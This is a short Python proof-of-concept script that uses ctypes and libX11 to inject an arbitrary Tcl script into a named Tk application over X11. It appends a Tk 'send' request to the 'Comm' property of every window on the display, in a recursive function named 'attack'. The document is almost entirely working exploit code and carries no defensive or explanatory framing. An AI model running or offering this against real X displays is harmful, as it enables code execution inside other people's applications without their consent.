"""Sends a script to an application by Tk's protocol, but without asking the list of applications:
writes the request to every window of the display. Arguments: name of the application, script."""

import ctypes
import sys

x = ctypes.CDLL("libX11.so.6")
x.XOpenDisplay.restype = ctypes.c_void_p
x.XDefaultRootWindow.restype = ctypes.c_ulong
display = ctypes.c_void_p(x.XOpenDisplay(None))
comm = x.XInternAtom(display, b"Comm", 0)
name, script = (argument.encode() for argument in sys.argv[1:3])
request = b"\0c\0-n " + name + b"\0-s " + script + b"\0"


def attack(window):
    window = ctypes.c_ulong(window)
    x.XChangeProperty(display, window, comm, 31, 8, 2, request, len(request))  # STRING, append
    root, parent, count = ctypes.c_ulong(), ctypes.c_ulong(), ctypes.c_uint()
    children = ctypes.POINTER(ctypes.c_ulong)()
    x.XQueryTree(display, window, ctypes.byref(root), ctypes.byref(parent), ctypes.byref(children),
                 ctypes.byref(count))
    for child in children[:count.value]:
        attack(child)


attack(x.XDefaultRootWindow(display))
x.XSync(display, 0)
